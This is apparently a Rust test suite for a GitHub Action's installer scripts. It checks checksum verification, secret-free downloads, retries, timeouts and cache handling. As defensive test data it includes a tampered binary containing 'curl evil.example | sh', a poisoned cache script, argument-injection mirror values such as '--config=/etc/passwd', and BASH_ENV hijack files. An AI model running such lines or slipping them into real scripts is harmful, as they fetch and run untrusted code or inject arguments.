//! `action/install.sh` and `run.sh` as a runner calls them: what they run, and above all what they do not. The release is
//! a script that leaves a trace, served over loopback; each shell and each pair of tools that a runner may have is tried.

mod machine;
mod server;

use std::os::unix::fs::{PermissionsExt, symlink};
use std::path::Path;
use std::process::Command;
use std::time::{Duration, Instant};

use machine::{BINARY, FILE, Machine, TARGET, gzip, sha256};
use server::{Answer, Server};

#[test]
fn the_binary_is_fetched_once_checked_and_run() {
    let machine = Machine::new(vec![Answer::Whole]);
    machine
        .run()
        .served()
        .said("its sha256 is the one in this commit");
    assert_eq!(std::fs::read(machine.cached()).unwrap(), BINARY.as_bytes());
    let mode = |path: &Path| std::fs::metadata(path).unwrap().permissions().mode() & 0o777;
    assert_eq!(mode(&machine.cached()), 0o755);
    machine.is_tidy();
    let request = machine.server.requests().remove(0);
    assert!(!request.contains("ghs_token"), "{request}");
    assert!(
        !request.to_lowercase().contains("authorization"),
        "{request}"
    );
    // The second time nobody is asked.
    machine.run().served().said("from the tool cache");
    assert_eq!(machine.server.requests().len(), 1);
}

/// The file is public: neither its server nor the program that fetches it gets what the job holds.
#[test]
fn the_download_gets_no_secrets() {
    let machine = Machine::new(vec![Answer::Whole])
        .var("ACTIONS_ID_TOKEN_REQUEST_TOKEN", "ghs_token_too")
        .var("AWS_SECRET_ACCESS_KEY", "ghs_token_three");
    machine.tool(
        "curl",
        "#!/bin/sh\n{ env; printf '%s\\n' \"$@\"; } >>\"$TRACE.curl\"\nexec /usr/bin/curl \"$@\"\n",
    );
    machine.run().served();
    let seen = std::fs::read_to_string(machine.path("trace.curl")).unwrap();
    assert!(seen.contains("GITHUB_ACTIONS=true"), "{seen}");
    assert!(!seen.contains("ghs_token"), "{seen}");
}

#[test]
fn every_shell_and_every_set_of_tools_will_do() {
    let good = || Machine::new(vec![Answer::Whole]);
    good().shell(&["bash", "--posix"]).run().served();
    good().shell(&["dash"]).run().served();
    good()
        .only(&["curl", "gzip", "shasum", "cat"])
        .run()
        .served();
    good()
        .only(&["wget", "gzip", "sha256sum", "timeout"])
        .run()
        .served();
    good().only(&["wget", "gzip", "sha256sum"]).run().served();
    if let Some(alpine) = good().busybox() {
        alpine.run().served();
        alpine.run().served().said("from the tool cache");
        let bad = || Machine::new(vec![Answer::Other(gzip(b"#!/bin/sh\n"))]);
        bad()
            .busybox()
            .unwrap()
            .run()
            .refused(1, "shipway::install::");
    }
}

#[test]
fn a_machine_without_the_tools_hears_which() {
    let machine = Machine::new(vec![Answer::Whole]).only(&["sha256sum"]);
    machine
        .run()
        .refused(2, "shipway::install::tools")
        .said("curl or wget, gzip.");
}

#[test]
fn what_is_not_what_the_commit_names_is_not_run() {
    let evil = BINARY.replace("exit 7", "curl evil.example | sh -c 'exit 0'");
    let tampered = gzip(evil.as_bytes());
    // As long as the right one, so that only the hash tells.
    let mut flipped = Machine::new(Vec::new()).archive.clone();
    let last = flipped.len() - 9;
    flipped[last] ^= 1;
    let mut longer = flipped.clone();
    longer.extend([0; 100_000]);
    for (what, bytes) in [
        ("tampered", tampered),
        ("flipped", flipped),
        ("longer", longer),
    ] {
        for tools in [
            &["curl", "gzip", "sha256sum"][..],
            &["wget", "gzip", "sha256sum"],
        ] {
            // A whole file of wrong content is the last word: nobody is asked again.
            let machine = Machine::new(vec![Answer::Other(bytes.clone()); 4]).only(tools);
            assert!(bytes.len() >= machine.archive.len());
            machine.run().refused(1, "shipway::install::checksum");
            assert!(!machine.cached().exists(), "{what}");
            assert_eq!(machine.server.requests().len(), 1, "{what}");
            machine.is_tidy();
        }
    }
}

#[test]
fn a_commit_that_names_another_hash_is_believed() {
    // The file is the right one; the commit says otherwise.
    let right = sha256(&gzip(BINARY.as_bytes()));
    let machine = Machine::with(vec![Answer::Whole], |r| r.replace(&right, &"a".repeat(64)));
    machine
        .run()
        .refused(1, "shipway::install::checksum")
        .said(&format!("{}{FILE}", machine.server.address))
        .said("set the input `mirror`");
    let inner = sha256(BINARY.as_bytes());
    let machine = Machine::with(vec![Answer::Whole], |r| r.replace(&inner, &"b".repeat(64)));
    machine.run().refused(1, "shipway::install::checksum");
    assert!(!machine.cached().exists());
    machine.is_tidy();
}

#[test]
fn a_download_that_breaks_is_tried_again() {
    let answers = vec![Answer::Status(500), Answer::Truncated, Answer::Whole];
    let machine = Machine::new(answers.clone());
    machine
        .run()
        .served()
        .said("HTTP 500")
        .said("it ended early");
    let machine = Machine::new(answers).only(&["wget", "gzip", "sha256sum", "timeout"]);
    machine.run().served();
    // The server itself calls half of it the whole.
    let half = Machine::new(Vec::new()).archive;
    let half = half[..half.len() / 2].to_vec();
    let machine = Machine::new(vec![Answer::Other(half), Answer::Whole]);
    machine.run().served().said("it ended after");
}

#[test]
fn four_tries_are_all() {
    let machine = Machine::new(vec![Answer::Truncated; 9]);
    machine
        .run()
        .refused(1, "shipway::install::download")
        .said("set the input `mirror`");
    assert_eq!(machine.server.requests().len(), 4);
    assert!(!machine.cached().exists());
    machine.is_tidy();
    let output = std::fs::read_to_string(machine.path("output")).unwrap();
    assert_eq!(
        output,
        "deployment-status=not-started\nchanged=false\nfailure-code=shipway::install::download\n"
    );
}

#[test]
fn what_is_not_there_is_asked_for_once() {
    let machine = Machine::new(vec![Answer::Status(404); 9]);
    machine
        .run()
        .refused(1, "shipway::install::download")
        .said("HTTP 404");
    assert_eq!(machine.server.requests().len(), 1);
}

#[test]
fn nobody_there_is_said_with_the_address() {
    // A port that was free a moment ago.
    let free = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let address = format!("http://{}", free.local_addr().unwrap());
    drop(free);
    let machine = Machine::with(Vec::new(), |r| {
        let (before, after) = r.split_once("from ").unwrap();
        let (_, after) = after.split_once('\n').unwrap();
        format!("{before}from {address}\n{after}")
    });
    let machine = machine.var("SHIPWAY_INSTALL_SECONDS", "3");
    let ran = machine.run();
    ran.refused(1, "shipway::install::download")
        .said(&format!("{address}{FILE}: no connection"));
    assert!(ran.took < Duration::from_secs(30), "{:?}", ran.took);
}

#[test]
fn time_is_bounded() {
    for tools in [
        &["curl", "gzip", "sha256sum"][..],
        &["wget", "gzip", "sha256sum", "timeout"],
    ] {
        let machine = Machine::new(vec![Answer::Trickle; 9])
            .var("SHIPWAY_INSTALL_SECONDS", "2")
            .only(tools);
        let ran = machine.run();
        ran.refused(1, "shipway::install::download")
            .said("too slow");
        assert!(ran.took < Duration::from_secs(20), "{:?}", ran.took);
    }
}

#[test]
fn a_poisoned_copy_in_the_tool_cache_is_replaced_unrun() {
    let evil = "#!/bin/sh\necho evil >>\"$TRACE\"\n";
    let poison = |machine: &Machine| {
        std::fs::create_dir_all(machine.cached().parent().unwrap()).unwrap();
        std::fs::write(machine.cached(), evil).unwrap();
        std::fs::set_permissions(machine.cached(), PermissionsExt::from_mode(0o755)).unwrap();
    };
    let machine = Machine::new(vec![Answer::Whole]);
    poison(&machine);
    machine.run().served().said("is refused: its sha256 is");
    assert_eq!(std::fs::read(machine.cached()).unwrap(), BINARY.as_bytes());

    // A link is what it points at tomorrow.
    let machine = Machine::new(vec![Answer::Whole]);
    std::fs::create_dir_all(machine.cached().parent().unwrap()).unwrap();
    machine.tool("elsewhere", BINARY);
    symlink(machine.path("bin/elsewhere"), machine.cached()).unwrap();
    machine.run().served();
    assert!(!machine.cached().is_symlink());

    // A directory cannot be replaced by a rename.
    let machine = Machine::new(vec![Answer::Whole]);
    std::fs::create_dir_all(machine.cached()).unwrap();
    machine.run().served().said("cannot be written");

    // Out of reach: refused, not run.
    let machine = Machine::new(vec![Answer::Status(404)]);
    poison(&machine);
    machine.run().refused(1, "shipway::install::download");
}

#[test]
fn a_tool_cache_that_cannot_be_written_is_done_without() {
    let machine = Machine::new(vec![Answer::Whole]);
    std::fs::remove_dir(machine.path("cache")).unwrap();
    std::fs::write(machine.path("cache"), "a file").unwrap();
    machine.run().served().said("cannot be written; using ");
}

#[test]
fn the_mirror_comes_before_the_release_and_is_believed_no_more() {
    let mirror = Machine::new(vec![Answer::Whole]).server;
    let machine = Machine::new(vec![Answer::Whole]);
    let machine = machine.var("SHIPWAY_ACTION_MIRROR", &format!("{}/", mirror.address));
    machine.run().served();
    assert_eq!(
        (mirror.requests().len(), machine.server.requests().len()),
        (1, 0)
    );

    // One that lies is named, and the release is asked.
    let mirror = Server::start(FILE, vec![Answer::Other(vec![0; 4000])], &[]);
    let machine = Machine::new(vec![Answer::Whole]).var("SHIPWAY_MIRROR", &mirror.address);
    machine
        .run()
        .served()
        .said(&format!("{}{FILE}: refused", mirror.address));

    // The input is stronger than the variable; an empty one is not set.
    let mirror = Machine::new(vec![Answer::Whole]).server;
    let machine = Machine::new(Vec::new())
        .var("SHIPWAY_MIRROR", "http://127.0.0.1:1")
        .var("SHIPWAY_ACTION_MIRROR", &mirror.address);
    machine.run().served();
    let machine = Machine::new(vec![Answer::Whole]).var("SHIPWAY_ACTION_MIRROR", "");
    machine.run().served();
}

#[test]
fn a_mirror_must_be_an_address_without_a_login() {
    for wrong in [
        "https://me:secret@mirror.example",
        "--config=/etc/passwd",
        "file:///etc",
        "https://",
        "https://mirror.example/a b",
        "https://mirror.example/?token=secret",
        "https://mirror.example/\n::add-mask::x",
    ] {
        let machine = Machine::new(vec![Answer::Whole]).var("SHIPWAY_ACTION_MIRROR", wrong);
        let ran = machine.run();
        ran.refused(2, "shipway::install::mirror");
        assert!(!ran.stderr.contains("secret"), "{}", ran.stderr);
        assert!(machine.server.requests().is_empty());
    }
}

#[test]
fn a_tree_without_a_release_says_so() {
    let machine = Machine::with(Vec::new(), |_| "# words\n".to_owned());
    machine
        .run()
        .refused(2, "shipway::install::no_release")
        .said("set the variable SHIPWAY_BINARY");
}

#[test]
fn other_machines_are_refused_with_words() {
    let machine = Machine::new(Vec::new()).var("MACHINE", "armv7l");
    machine
        .run()
        .refused(2, "shipway::install::no_binary")
        .said("no binary for Linux armv7l")
        .said(TARGET);
    let machine = Machine::new(Vec::new()).var("RUNNER_OS", "Windows");
    machine.run().refused(2, "shipway::install::windows");
    let machine = Machine::new(Vec::new()).var("SYSTEM", "MINGW64_NT-10.0");
    machine.run().refused(2, "shipway::install::windows");
    // Known, and in no release.
    let machine = Machine::new(Vec::new()).var("SYSTEM", "Darwin");
    machine
        .run()
        .refused(2, "no binary for x86_64-apple-darwin");
}

#[test]
fn your_own_build_is_run_when_you_say_so_and_only_then() {
    let machine = Machine::with(Vec::new(), |_| String::new());
    machine.tool("mine", BINARY);
    let mine = machine.path("bin/mine");
    let machine = machine.var("SHIPWAY_BINARY", mine.to_str().unwrap());
    machine.run().served().said("no release is used");
    // Not looked up on PATH.
    let machine = Machine::new(vec![Answer::Whole]).var("SHIPWAY_BINARY", "shipway");
    machine.tool("shipway", BINARY);
    machine.run().refused(2, "shipway::install::binary");
    // Whatever is on PATH is not asked.
    let machine = Machine::new(vec![Answer::Status(404)]);
    machine.tool("shipway", BINARY);
    machine.run().refused(1, "shipway::install::download");
}

#[test]
fn many_at_once_get_one_whole_binary() {
    let machine = Machine::new(vec![Answer::Whole; 8]);
    let children: Vec<_> = (0..6)
        .map(|_| machine.command("run.sh", &["deploy"]).spawn().unwrap())
        .collect();
    for child in children {
        let output = child.wait_with_output().unwrap();
        let stderr = String::from_utf8_lossy(&output.stderr).into_owned();
        assert_eq!(output.status.code(), Some(7), "{stderr}");
    }
    assert_eq!(std::fs::read(machine.cached()).unwrap(), BINARY.as_bytes());
    machine.is_tidy();
}

/// The runner signals only the step's first process, and kills it ten seconds later.
#[test]
fn a_signal_reaches_the_binary_and_stops_a_download() {
    use std::process::Child;
    let signal = |child: &Child, name: &str| {
        let pid = child.id().to_string();
        let sent = Command::new("kill").args([name, &pid]).status().unwrap();
        assert!(sent.success());
    };
    let wait_for = |what: &dyn Fn() -> bool| {
        let began = Instant::now();
        while !what() {
            assert!(
                began.elapsed() < Duration::from_secs(20),
                "it never came to that"
            );
            std::thread::sleep(Duration::from_millis(20));
        }
    };
    for shell in [&["/bin/sh"][..], &["bash", "--posix"]] {
        let machine = Machine::new(vec![Answer::Trickle]).shell(shell);
        let child = machine.command("run.sh", &["deploy"]).spawn().unwrap();
        wait_for(&|| !machine.server.requests().is_empty());
        signal(&child, "-TERM");
        let began = Instant::now();
        assert_eq!(child.wait_with_output().unwrap().status.code(), Some(143));
        assert!(began.elapsed() < Duration::from_secs(5));
        machine.is_tidy();
    }
    // `exec`: the binary is the process that the step began with.
    let machine = Machine::new(vec![Answer::Whole]);
    let child = machine.command("run.sh", &["deploy"]).spawn().unwrap();
    let pid = child.id();
    child.wait_with_output().unwrap();
    let trace = std::fs::read_to_string(machine.path("trace")).unwrap();
    assert!(trace.contains(&format!("pid={pid}\n")), "{trace}");
}

#[test]
fn setup_puts_it_on_path_and_says_where() {
    let machine = Machine::new(vec![Answer::Whole]);
    let ran = machine.ended(machine.command("install.sh", &[]));
    assert!(ran.output.status.success(), "{}", ran.stderr);
    assert_eq!(ran.trace, "");
    let cached = machine.cached();
    let text = |name: &str| std::fs::read_to_string(machine.path(name)).unwrap();
    assert_eq!(
        String::from_utf8(ran.output.stdout).unwrap().trim(),
        cached.to_str().unwrap()
    );
    assert_eq!(
        text("paths").trim(),
        cached.parent().unwrap().to_str().unwrap()
    );
    assert_eq!(
        text("output"),
        format!("version=1.2.3\npath={}\n", cached.display())
    );
}

/// The very steps of the actions, by the very shell that they name.
#[test]
fn each_actions_step_runs_its_verb() {
    let root = Path::new(env!("CARGO_MANIFEST_DIR"));
    for (path, verb) in [
        ("action.yml", "deploy"),
        ("build/action.yml", "build"),
        ("plan/action.yml", "plan"),
        ("scale/action.yml", "scale"),
        ("rollback/action.yml", "rollback"),
        ("setup/action.yml", ""),
    ] {
        let text = std::fs::read_to_string(root.join(path)).unwrap();
        let action: serde_yaml::Value = serde_yaml::from_str(&text).unwrap();
        let step = &action["runs"]["steps"][1];
        let machine = Machine::new(vec![Answer::Whole]);
        let folder = machine.path(path);
        let folder = folder.parent().unwrap();
        std::fs::create_dir_all(folder).unwrap();
        std::fs::write(machine.path("step"), step["run"].as_str().unwrap()).unwrap();
        std::fs::write(machine.path("evil"), "echo evil >>\"$TRACE\"\n").unwrap();
        let mut words = step["shell"].as_str().unwrap().split(' ');
        let mut command = machine.command("run.sh", &[]);
        let vars: Vec<_> = command
            .get_envs()
            .filter_map(|(name, value)| Some((name.to_owned(), value?.to_owned())))
            .collect();
        command = Command::new(words.next().unwrap());
        let step = machine.path("step");
        command
            .args(words.map(|word| word.replace("{0}", step.to_str().unwrap())))
            .env_clear()
            .envs(vars)
            .env("GITHUB_ACTION_PATH", folder)
            .env("BASH_ENV", machine.path("evil"))
            .env("ENV", machine.path("evil"));
        let ran = machine.ended(command);
        match verb {
            "" => assert!(ran.output.status.success(), "{}", ran.stderr),
            _ => assert_eq!(ran.output.status.code(), Some(7), "{}", ran.stderr),
        }
        let first = ran.trace.lines().next().unwrap_or_default();
        assert_eq!(first, verb, "{path}");
    }
}
